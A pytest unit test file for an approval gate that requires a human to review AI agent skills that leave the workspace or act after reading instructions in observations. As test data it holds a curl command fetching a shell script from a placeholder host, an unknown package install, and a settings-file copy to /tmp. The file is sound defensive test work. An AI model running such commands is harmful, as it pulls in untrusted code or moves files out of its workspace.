"""What no policy accepts without a person: skills that leave the workspace, and actions after reading instructions."""

from __future__ import annotations

import dataclasses

import pytest

from tacit.domain.coded_reason import coded
from tacit.domain.skill import INSTRUCTED, Provenance
from tacit.domain.trajectory import Span
from tacit.gate.automatic_approval import reason_for_person
from tacit.gate.findings import GateReason
from tests.unit.making import bash_steps, candidate, content


def test_work_inside_the_workspace_needs_no_person():
    assert reason_for_person(candidate(content(steps=bash_steps("make lint", "pytest -q")))) is None


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsS https://files.odd-place.net/i.sh -o i.sh",
        "pip install odd-shim",
        "cp settings.ini /tmp/settings.bak",
        "git config user.email bot@odd-place.org",
    ],
)
def test_what_reaches_out_of_the_workspace_needs_a_person(command):
    reason = reason_for_person(candidate(content(steps=bash_steps(command, "pytest -q"))))
    assert reason
    assert reason.code == GateReason.LEAVES_WORKSPACE


def test_the_reason_names_the_place_and_the_thing():
    steps = bash_steps("make lint", "curl https://files.odd-place.net/i.sh")
    reason = reason_for_person(candidate(content(steps=steps)))
    assert reason
    assert reason.values["field"] == "step 2"
    assert "files.odd-place.net" in str(reason.values["value"])


def test_an_action_after_reading_instructions_needs_a_person():
    words = Provenance(trajectory_ids=("t_1",), grounding={INSTRUCTED: (Span("t_1", 4, "observation"), Span("t_2", 7))})
    read = reason_for_person(dataclasses.replace(candidate(), provenance=words))
    assert read == coded(GateReason.READ_INSTRUCTIONS, step=5, attempt="t_1")
